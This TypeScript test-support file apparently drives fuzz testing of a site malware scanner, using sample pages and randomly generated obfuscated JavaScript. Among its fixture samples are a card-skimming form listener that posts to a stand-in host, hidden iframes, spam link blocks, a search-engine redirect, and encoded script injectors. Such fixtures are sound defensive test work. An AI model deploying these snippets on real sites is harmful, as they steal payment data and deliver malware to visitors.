import type { SeededRandom } from '../../support/random';
import { EVAL, word } from '../../unit/php/support';
import type { SiteTarget } from './siteCase';

const WRITE = word('document.', 'write');
const UNESCAPE = word('une', 'scape');
const TEXTS = [
  "'a'",
  '"<script src=\\"//a.example/b.js\\"></script>"',
  "'%3Cscript%3E'",
  "'\\x68\\164\\u0074'",
  '`${a}b`',
  "'aHR0cHM6'",
  "''",
];
const NUMBERS = ['0', '-1', '1e9', '0x41', '97', '99999999999', 'NaN', 'Infinity'];
const NAMES = ['a', 'b', 'window', 'document', 'this', 'location', 'String', 'arguments', '_0x1a2b'];
const METHODS = [
  'split',
  'join',
  'reverse',
  'replace',
  'charCodeAt',
  'fromCharCode',
  'substr',
  'slice',
  'concat',
  'map',
  'repeat',
  'toString',
];
const CALLED = [
  EVAL,
  UNESCAPE,
  WRITE,
  'atob',
  'Function',
  'setTimeout',
  'parseInt',
  'decodeURIComponent',
  'fetch',
  'f',
  'String.fromCharCode',
];
const OPERATORS = ['+', '-', '*', '%', '^', '|', '&&', '||', '==', '<', ',', '=', '+=', '??', 'in'];
const DEEPEST = 5;

/** Pages, scripts, pictures that are markup, and Perl. */
export const markupTarget: SiteTarget = {
  paths: ['a.html', 'b.js', 'jquery.min.js', 'c.svg', 'd.tpl', 'e.php', 'f.mjs', 'g.cgi'],
  samples: [
    '<!doctype html><html><head><base href="/a/"><meta http-equiv="refresh" content="0; url=\'b.php\'"></head><body><form action="c.php" method="post"><input name="d"></form></body></html>',
    `<script>${WRITE}(${UNESCAPE}('%3Cscript src=%22//a.example/b.js%22%3E%3C/script%3E'))</script>`,
    '<iframe src="https://a.example/" width=1 height=1 style="position:absolute;left:-9999px"></iframe>',
    `<div style="display:none"><a href="https://a.example/">casino</a> ${'<a href="https://b.example/c">pills</a> '.repeat(12)}</div>`,
    `var _0x1a2b=['\\x68\\x74\\x74\\x70','b'];(function(a,b){while(--b){a['push'](a['shift']());}}(_0x1a2b,0x10));${EVAL}(_0x1a2b[0]);`,
    `${EVAL}(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}('0.1("2")',3,3,'document|write|a'.split('|'),0,{}))`,
    '!function(a,b){"use strict";a.c=function(d){return d?/[a-z/]+\\/(?:e|f)/gi.test(d):`g${d+`h${1}`}`}}(this,{i:1,"j":[2,,3]});',
    'document.addEventListener("submit",function(e){fetch("https://a.example/",{method:"POST",body:JSON.stringify({card:document.querySelector("[name=cc_number]").value})})});',
    'if(/google|bing/.test(document.referrer)){location.href="https://a.example/?k="+encodeURIComponent(location.host)}',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="location=\'//a.example\'"><script><![CDATA[alert(1)]]></script><a xlink:href="b.php"/></svg>',
    "<p onclick='f(&quot;a.php&quot;)' data-url=\"b.php?c\">{{ d|raw }} {% include 'e.html' %} <!-- <form action=f.php> --></p><textarea><script></textarea>",
    '#!/usr/bin/perl\nuse strict;\nrequire \'./jcode.pl\';\nopen(MAIL, "| /usr/sbin/sendmail -t") || die;\nprint MAIL <<"END";\nTo: $to\nEND\nclose(MAIL);\n',
    "<?php echo '<script src=\"//a.example/b.js\"></script>'; ?><body onload='c()'>",
    'const s=document.createElement("script");s.async=!0;s.src=atob("aHR0cHM6Ly9hLmV4YW1wbGUv")+"x.js";document.head.appendChild(s);',
    '[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]',
  ],
  pieces: [
    [
      '<',
      '>',
      '</',
      '/>',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<script>',
      '</script>',
      '<a href="',
      '<iframe ',
      ' style="',
      '<div>',
      '</div>',
      ' constructor="a.php"',
      '__proto__',
    ],
    [
      '"',
      "'",
      '`',
      '${',
      '}',
      '{',
      '(',
      ')',
      '[',
      ']',
      '/',
      '//',
      '/*',
      '*/',
      '\\',
      '\\u{',
      '\\x',
      '&',
      '&#',
      '&#x10ffff;',
      '&amp',
      ';',
    ],
    [
      '=',
      '+',
      '!',
      '=>',
      ',',
      '.',
      '?.',
      '\n',
      '\r',
      '\u2028',
      '\0',
      '\u{feff}',
      'お知らせ',
      '\u{1f600}',
      '\u{d800}',
      '0',
      '1e999',
      '-1',
    ],
    [
      'function',
      'return ',
      'var ',
      'new ',
      'in ',
      'fromCharCode',
      'atob(',
      'src=',
      'https://a.example/',
      'data:text/html;base64,',
      '%3C',
      'q{',
      '<<A',
    ],
  ].flat(),
  write: (random) => {
    const code = Array.from({ length: random.integer(1, 15) }, () => statement(random, 0)).join('\n');
    return random.next() < 0.5 ? code : `<html><script>${code}</script></html>`;
  },
};

function statement(random: SeededRandom, depth: number): string {
  if (depth >= DEEPEST) return `${expression(random, depth)};`;
  return random.pick(STATEMENTS)(random, depth + 1);
}

const STATEMENTS: readonly ((random: SeededRandom, depth: number) => string)[] = [
  (random, depth) => `${expression(random, depth)};`,
  (random, depth) => `var ${random.pick(['a', 'b', '_0x1a2b', '[a,b]', '{a:b}'])} = ${expression(random, depth)};`,
  (random, depth) =>
    `if (${expression(random, depth)}) { ${statement(random, depth)} } else ${statement(random, depth)}`,
  (random, depth) => `for (var i = 0; i < ${expression(random, depth)}; i++) { ${statement(random, depth)} }`,
  (random, depth) => `while (${expression(random, depth)}) { ${statement(random, depth)} break; }`,
  (random, depth) => `function f(a, b) { ${statement(random, depth)} return ${expression(random, depth)} }`,
  (random, depth) => `try { ${statement(random, depth)} } catch (e) { ${statement(random, depth)} }`,
];

function expression(random: SeededRandom, depth: number): string {
  if (depth >= DEEPEST) return random.pick([random.pick(NAMES), random.pick(TEXTS), random.pick(NUMBERS)]);
  return random.pick(EXPRESSIONS)(random, depth + 1);
}

const EXPRESSIONS: readonly ((random: SeededRandom, depth: number) => string)[] = [
  (random) => random.pick(NAMES),
  (random) => random.pick(TEXTS),
  (random) => random.pick(NUMBERS),
  (random, depth) => `${random.pick(CALLED)}(${expression(random, depth)}, ${expression(random, depth)})`,
  (random, depth) => `${random.pick(CALLED)}(${expression(random, depth)})`,
  (random, depth) => `${expression(random, depth)}.${random.pick(METHODS)}(${expression(random, depth)})`,
  (random, depth) => `${random.pick(NAMES)}[${expression(random, depth)}]`,
  (random, depth) => `${expression(random, depth)} ${random.pick(OPERATORS)} ${expression(random, depth)}`,
  (random, depth) => `[${expression(random, depth)}, ${expression(random, depth)}]`,
  (random, depth) => `(function (a) { ${statement(random, depth)} })(${expression(random, depth)})`,
  (random, depth) => `(${expression(random, depth)} ? ${expression(random, depth)} : ${expression(random, depth)})`,
  (random, depth) => `{ a: ${expression(random, depth)}, 'b': ${expression(random, depth)} }`,
  (random, depth) => `/${random.pick(['a+', '[/]', '(b|c)*', '\\\\/'])}/g.test(${expression(random, depth)})`,
];
